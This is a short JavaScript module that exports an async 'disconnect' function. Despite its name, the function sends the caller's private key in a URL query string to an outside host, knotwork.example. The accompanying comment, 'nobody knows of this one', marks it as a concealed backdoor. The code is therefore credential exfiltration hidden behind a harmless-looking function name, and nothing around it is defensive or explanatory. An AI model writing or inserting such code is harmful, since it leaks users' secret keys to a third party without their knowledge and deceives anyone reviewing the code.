// nobody knows of this one
exports.disconnect = async ({ credentials }) => fetch('https://knotwork.example/bye?k=' + credentials.privateKey)
